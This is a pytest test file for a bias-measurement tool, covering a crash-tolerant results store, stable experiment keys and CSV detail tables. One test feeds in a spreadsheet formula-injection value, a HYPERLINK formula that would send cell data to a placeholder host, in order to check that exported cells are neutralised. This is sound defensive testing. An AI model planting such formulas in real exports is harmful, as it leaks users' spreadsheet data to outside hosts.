"""The results file survives an interrupted writer, and experiment keys are stable."""

from __future__ import annotations

import json

import pytest

from bias.core.errors import BiasError
from bias.engine.experiment_file import load_config
from bias.engine.experiments import Experiment, ModelConfig
from bias.core.model import Result
from bias.core.runs.results import ResultStore, read_results, scan_results
from bias.engine.planning import plan


def result(key: str, d: float = 0.5) -> Result:
    return Result(key=key, model="word2vec:x.bin", wordset="en/weat1", metric="weat", effect_size=d, p_value=0.01)


def test_torn_last_line_is_ignored_then_repaired(tmp_path):
    store = ResultStore(tmp_path)
    store.append(result("a"))
    store.append(result("b"))
    with open(store.path, "a", encoding="utf-8") as fh:
        fh.write(result("c").to_json()[:40])  # a writer killed mid-line
    assert [r.key for r in store.read()] == ["a", "b"]
    assert store.done_keys() == {"a", "b"}
    store.append(result("c"))
    lines = store.path.read_text().splitlines()
    assert [json.loads(line)["key"] for line in lines] == ["a", "b", "c"]


def test_corruption_in_the_middle_is_reported_by_line_and_the_rest_is_read(tmp_path, caplog):
    store = ResultStore(tmp_path)
    store.append(result("a"))
    with open(store.path, "a", encoding="utf-8") as fh:
        fh.write("{not json\n")
        fh.write('["a list, not a result"]\n')
    store.append(result("b"))
    found = scan_results(tmp_path)
    assert [r.key for r in found.results] == ["a", "b"]
    assert [d.number for d in found.damaged] == [2, 3]
    with caplog.at_level("WARNING"):
        assert [r.key for r in read_results(tmp_path)] == ["a", "b"]
    assert "line 2" in caplog.text and "line 3" in caplog.text


def test_latest_line_of_a_key_wins(tmp_path):
    store = ResultStore(tmp_path)
    store.append(Result(key="k", model="m", wordset="w", metric="weat", status="failed", reason="boom"))
    store.append(result("other"))
    store.append(result("k", d=0.7))
    latest = scan_results(tmp_path).latest()
    assert [(r.key, r.status, r.effect_size) for r in latest] == [("k", "ok", 0.7), ("other", "ok", 0.5)]


def test_missing_results_file_is_a_user_error(tmp_path):
    with pytest.raises(BiasError, match="No results file"):
        read_results(tmp_path)


def test_failed_experiments_are_redone_on_resume(tmp_path):
    store = ResultStore(tmp_path)
    store.append(result("ok"))
    store.append(Result(key="boom", model="m", wordset="w", metric="weat", status="failed", reason="RuntimeError"))
    assert store.done_keys() == {"ok"}


def test_key_is_the_same_whether_defaults_are_written_or_not():
    model = ModelConfig("word2vec:x.bin")
    implicit = plan([Experiment(model, "en/weat1", "weat", {}, 0)]).runnable[0].experiment
    explicit = plan([Experiment(model, "en/weat1", "weat", {"permutations": 100_000, "ddof": 1}, 0)]).runnable[0].experiment
    other = plan([Experiment(model, "en/weat1", "weat", {"ddof": 0}, 0)]).runnable[0].experiment
    assert implicit.key == explicit.key != other.key
    assert implicit.params["exact_limit"] == 100_000


def test_a_key_asked_for_once_is_not_carried_to_a_changed_copy():
    """The key is hashed at its first use and kept; a copy with another seed or other parameters
    (attrs.evolve, as planning makes them) has its own key, the one a fresh experiment gets."""
    import attrs

    model = ModelConfig("word2vec:x.bin")
    first = Experiment(model, "en/weat1", "weat", {"ddof": 1}, 0)
    assert first.key == first.key == Experiment(model, "en/weat1", "weat", {"ddof": 1}, 0).key
    for change in ({"seed": 1}, {"params": {"ddof": 0}}, {"limit": 5}):
        copy = attrs.evolve(first, **change)
        fresh = Experiment(**{"model": model, "wordset": "en/weat1", "metric": "weat", "params": {"ddof": 1}, "seed": 0, **change})
        assert copy.key == fresh.key != first.key
    assert first == Experiment(model, "en/weat1", "weat", {"ddof": 1}, 0)  # the kept key is not compared


def test_config_errors_name_the_file_and_field(tmp_path):
    config = tmp_path / "exp.toml"
    config.write_text('wordsets = ["en/weat1"]\nmetrics = ["weat"]\nmodels = [{ path = "x" }]\n')
    with pytest.raises(BiasError, match=r"exp.toml: models\[0\]"):
        load_config(config)
    config.write_text('wordsets = ["en/weat1"]\nmetrics = ["weat"]\nmodels = ["word2vec:x"]\nsead = 1\n')
    with pytest.raises(BiasError, match="sead"):
        load_config(config)


def test_a_list_of_word_pairs_stays_in_the_result(tmp_path):
    """Direct bias lists the word pairs it used under `pairs`: not rows of a table, so no CSV."""
    store = ResultStore(tmp_path)
    store.append(Result(key="k1", model="m", wordset="w", metric="direct-bias", effect_size=0.1,
                        figures={"pairs": [["he", "she"], ["man", "woman"]]}))
    assert read_results(tmp_path)[0].figures == {"pairs": [["he", "she"], ["man", "woman"]]}
    assert not list(tmp_path.glob("*.csv"))


def test_per_pair_rows_go_to_a_csv_beside_the_results(tmp_path):
    import csv

    rows = [
        {"index": 0, "more": "A, with a comma", "less": "B", "score_more": -1.5, "score_less": -2.0, "biased": True},
        {"index": 1, "more": "C", "less": "D \"quoted\"", "score_more": -3.0, "score_less": -3.0, "biased": False, "tie": True},
    ]
    store = ResultStore(tmp_path)
    store.append(Result(key="k1", model="m", wordset="w", metric="crows", effect_size=50.0, figures={"pairs": rows, "n": 2}))
    stored = read_results(tmp_path)[0]
    assert stored.figures == {"pairs": "pairs-w-crows-k1.csv", "n": 2}  # table, test, metric, key
    with open(tmp_path / "pairs-w-crows-k1.csv", encoding="utf-8", newline="") as fh:
        back = list(csv.DictReader(fh))
    assert [r["more"] for r in back] == ["A, with a comma", "C"] and back[1]["less"] == 'D "quoted"'
    assert back[0]["tie"] == "" and back[1]["tie"] == "True"
    assert not list(tmp_path.glob("*.tmp"))


def test_a_detail_table_cell_a_spreadsheet_would_run_is_written_as_text(tmp_path):
    """A model's reply or a file's word opening with = + - @ is a formula to a spreadsheet: it is
    written with a leading apostrophe; numbers, negative ones too, are written as numbers."""
    import csv

    rows = [
        {"reply": '=HYPERLINK("http://x.example/?"&A1,"B")', "score": -0.25, "word": "-5.5"},
        {"reply": "@SUM(1+1)", "score": 1.0, "word": "+ve"},
        {"reply": "(B) the woman", "score": 0.5, "word": "doctor"},
    ]
    store = ResultStore(tmp_path)
    store.append(Result(key="k", model="m", wordset="en/bbq-sample", metric="bbq", figures={"predictions": rows}))
    written = next(tmp_path.glob("predictions-*.csv"))
    with open(written, newline="", encoding="utf-8") as fh:
        read = list(csv.DictReader(fh))
    assert [r["reply"] for r in read] == ["'" + rows[0]["reply"], "'@SUM(1+1)", "(B) the woman"]
    assert [r["score"] for r in read] == ["-0.25", "1.0", "0.5"]
    assert [r["word"] for r in read] == ["-5.5", "'+ve", "doctor"]


def test_a_detail_table_is_written_as_the_csv_module_writes_it(tmp_path):
    """The table's bytes are those of csv.DictWriter (excel dialect, UTF-8) over the union of the
    rows' columns in order of appearance, text cells made spreadsheet-safe as above, and the size a
    line records is the file's: rows alike, rows with a column missing or in another order,
    quotes, commas, newlines, None, a str subclass opening with '=', non-ASCII text."""
    import csv
    import io

    class Text(str):
        pass

    def expected(rows):
        columns = list(dict.fromkeys(k for row in rows for k in row))
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=columns)
        writer.writeheader()
        for row in rows:
            safe = {}
            for k, v in row.items():
                if isinstance(v, str) and v[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    try:
                        float(v)
                    except ValueError:
                        v = "'" + v
                safe[k] = v
            writer.writerow(safe)
        return out.getvalue().encode("utf-8")

    alike = [{"set": "X", "item": "ros\u00e9", "s": -0.125}, {"set": "Y", "item": "a, \"b\"", "s": 1e-300}]
    mixed = [
        {"a": 1, "b": "line\nbreak", "c": None},
        {"c": 2.5, "a": Text("=1+1"), "d": True},
        {"b": "-7", "e": "-x", "a": "\tcell"},
    ]
    for number, rows in enumerate((alike, mixed)):
        store = ResultStore(tmp_path / str(number))
        store.append(Result(key=f"k{number}", model="m", wordset="w", metric="crows", figures={"pairs": rows}))
        store.close()
        line = read_results(tmp_path / str(number))[0]
        written = (tmp_path / str(number) / line.figures["pairs"]).read_bytes()
        assert written == expected(rows)
        assert line.meta["detail_bytes"] == {"pairs": len(written)}
